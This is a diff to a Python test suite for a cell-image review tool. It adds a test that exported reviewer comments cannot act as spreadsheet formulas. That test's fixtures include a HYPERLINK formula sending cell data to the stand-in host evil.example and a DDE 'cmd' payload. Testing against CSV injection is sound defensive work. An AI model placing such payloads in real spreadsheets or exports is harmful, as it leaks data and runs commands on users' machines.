@@ -97,9 +97,7 @@ def test_export_writes_the_seed_layout(store, tmp_path):
     with store.write() as s:
         qc = s.scalar(select(Image).where(Image.kind == QC))
         rid = s.scalar(select(User.id).where(User.name == "a"))
-        queue.record_verdict(
-            s, rid, request_id=str(uuid.uuid4()), item=qc.uid, verdict="plausible", require_slot=False
-        )
+        queue.record_verdict(s, rid, request_id=str(uuid.uuid4()), item=qc.uid, verdict="plausible", require_slot=False)
         qc_name = Path(qc.filename).name
 
     out = tmp_path / "feedback"
@@ -156,7 +154,7 @@ def test_export_is_atomic(store, tmp_path, monkeypatch):
     def boom(*a, **k):
         raise OSError("disk full")
 
-    monkeypatch.setattr(ex, "_swap_into_place", boom)
+    monkeypatch.setattr(ex, "_write_votes", boom)  # images already copied, votes.csv fails
     with pytest.raises(OSError):
         export_feedback(store, out, overwrite=True)
     monkeypatch.undo()
@@ -304,3 +302,45 @@ def test_import_of_a_native_labelstudio_export(store, tmp_path):
     bad.write_text("{oops")
     with pytest.raises(DataError):
         import_labelstudio(store, bad, batch="lab")
+
+
+def test_votes_csv_cannot_run_formulas_in_a_spreadsheet(store, tmp_path):
+    """OWASP CSV injection: a cell starting with = + - @ tab or CR is a formula to Excel,
+    LibreOffice and Google Sheets; it is written with a leading apostrophe instead."""
+    make_study(store, tmp_path, reviewers=("a",), per_image=1, n=4)
+    comments = {
+        "neutrophil_000000.png": '=HYPERLINK("http://evil.example/?"&A1,"see")',
+        "neutrophil_000001.png": "@SUM(1+1)*cmd|' /C calc'!A0",
+        "neutrophil_000002.png": "+1+1",
+        "neutrophil_000003.png": "-2+3",
+        "lymphocyte_000000.png": "\t=1+1",
+        "lymphocyte_000001.png": "\r=1+1",
+        "lymphocyte_000002.png": "looks fine = no formula",
+    }
+    for name, comment in comments.items():
+        vote(store, "a", name, "plausible", comment=comment)
+    export_feedback(store, tmp_path / "out")
+    with open(tmp_path / "out" / "votes.csv", newline="") as f:
+        rows = {r["ID"]: r for r in csv.DictReader(f)}
+    for name, comment in comments.items():
+        written = rows[name]["comment"]
+        if comment[0] in "=+-@\t\r":
+            assert written == "'" + comment, (name, written)
+        else:
+            assert written == comment
+    assert all(r[k][:1] not in ("=", "+", "-", "@", "\t", "\r") for r in rows.values() for k in r)
+
+
+def test_labelstudio_import_names_the_annotation_with_a_control_character(sqlite_url, tmp_path):
+    store = Store(sqlite_url)
+    make_samples(tmp_path / "s", n=1)
+    add_batch(store, tmp_path / "s", name="lab", qc_share=0)
+    result = [
+        {"type": "choices", "value": {"choices": ["Plausible"]}},
+        {"type": "textarea", "value": {"text": ["bad\x00byte"]}},
+    ]
+    task = {"data": {"image": "neutrophil_000000.png"}, "annotations": [{"id": 5, "completed_by": 1, "result": result}]}
+    (tmp_path / "ls.json").write_text(json.dumps([task]))
+    with pytest.raises(DataError, match=r"ls\.json: annotation 5 of neutrophil_000000\.png: comment contains"):
+        import_labelstudio(store, tmp_path / "ls.json", batch="lab")
+    store.dispose()
